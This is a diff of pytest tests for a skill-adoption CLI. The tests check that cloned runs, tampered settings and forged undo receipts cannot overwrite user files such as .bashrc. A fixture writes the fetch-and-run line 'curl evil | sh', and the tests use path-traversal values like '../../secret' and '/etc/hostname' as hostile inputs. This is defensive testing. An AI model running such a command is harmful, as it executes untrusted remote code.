@@ -9,7 +9,9 @@ from pathlib import Path
 import pytest
 
 from cli._commands import SMALL, Command, run
+from skillopt.changes.apply import digest
 from skillopt.models.world.rules import SEED_SKILL
+from skillopt.runs.origin import note_origin, origin_folder
 
 HEAD = "---\nname: cases\ndescription: Answers cases with their code. Use it for cases.\n---\n"
 
@@ -35,6 +37,7 @@ def skill(skillopt: Command, project: Path, tmp_path: Path, monkeypatch: pytest.
     shutil.copytree(project, copy)
     for settings in copy.glob("outputs/*/settings.json"):
         settings.write_text(settings.read_text().replace(str(project), str(copy)))
+        note_origin(settings.parent, str(copy / "skills/cases"))
     monkeypatch.chdir(copy)
     return copy / "skills/cases/SKILL.md"
 
@@ -98,3 +101,69 @@ def test_another_place_can_be_named_and_a_run_without_one_says_so(skillopt: Comm
     settings.write_text(json.dumps(told))
     ran = skillopt("adopt", "tested", "--yes")
     assert ran.code == 2 and "--to FOLDER" in ran.err
+
+
+def test_a_run_that_was_not_trained_here_shows_where_it_would_write_and_does_not_without_a_yes(
+    skillopt: Command, skill: Path
+) -> None:
+    before = skill.read_bytes()
+    shutil.copytree("outputs/tested", "cloned/run")  # as it comes with a repository
+    refused = skillopt("adopt", "cloned/run", "--yes")
+    assert refused.code == 2 and "You did not train cloned/run here" in refused.err
+    assert f"it would write to {skill}" in refused.err and skill.read_bytes() == before
+    assert skillopt("adopt", "cloned/run", "--to", "elsewhere", "--yes").code == 0
+    assert Path("elsewhere/SKILL.md").read_bytes() == Path("outputs/tested/best_skill.md").read_bytes()
+
+
+def test_settings_that_were_changed_after_training_name_no_place_to_write(
+    skillopt: Command, skill: Path, tmp_path: Path
+) -> None:
+    mine = tmp_path / "CLAUDE.md"
+    mine.write_text("Mine.\n")
+    settings = Path("outputs/tested/settings.json")
+    told = json.loads(settings.read_text())
+    settings.write_text(json.dumps(told | {"env": told["env"] | {"skill_init": str(mine)}}))
+    refused = skillopt("adopt", "tested", "--yes")
+    assert refused.code == 2 and f"it would write to {mine}" in refused.err and mine.read_text() == "Mine.\n"
+
+
+def forged(folder: Path, *, path: Path, backup: str | None, holds: bytes) -> None:
+    """A receipt, as the run of a stranger's repository could hold it, in every form that was ever read."""
+    folder.mkdir(parents=True)
+    file = {"path": str(path), "backup": backup, "after": digest(holds), "made": 0}
+    receipt = {"time": "2026-01-01T00:00:00Z", "files": [file]}
+    (folder / "receipt.json").write_text(json.dumps(receipt))
+    (folder / "1-evil").write_text("curl evil | sh\n")
+
+
+@pytest.mark.parametrize("force", [(), ("--force",)])
+@pytest.mark.parametrize("backup", ["1-evil", None, "/etc/hostname"])
+def test_a_receipt_in_a_run_folder_is_not_believed(
+    skillopt: Command, skill: Path, tmp_path: Path, backup: str | None, force: tuple[str, ...]
+) -> None:
+    mine = tmp_path / ".bashrc"
+    mine.write_text("mine\n")
+    forged(Path("outputs/tested/adopted/001"), path=mine, backup=backup, holds=b"mine\n")
+    ran = skillopt("adopt", "outputs/tested", "--undo", *force)
+    assert ran.code == 2 and "nothing to undo" in ran.err
+    assert mine.read_text() == "mine\n"
+
+
+@pytest.mark.parametrize(
+    ("change", "named"),
+    [
+        ({"backup": "../../secret"}, "damaged"),
+        ({"backup": "/etc/hostname"}, "damaged"),
+        ({"path": "/tmp/x"}, "/tmp/x"),
+    ],
+)
+def test_a_receipt_names_plain_backups_and_files_of_the_adopted_skill_alone(
+    skillopt: Command, skill: Path, change: dict[str, str], named: str
+) -> None:
+    assert skillopt("adopt", "tested", "--yes").code == 0
+    adopted = skill.read_bytes()
+    [receipt] = origin_folder(Path("outputs/tested")).glob("*/receipt.json")
+    told = json.loads(receipt.read_text())
+    receipt.write_text(json.dumps(told | {"files": [told["files"][0] | change]}))
+    refused = skillopt("adopt", "tested", "--undo", "--force")
+    assert refused.code == 2 and named in refused.err and skill.read_bytes() == adopted
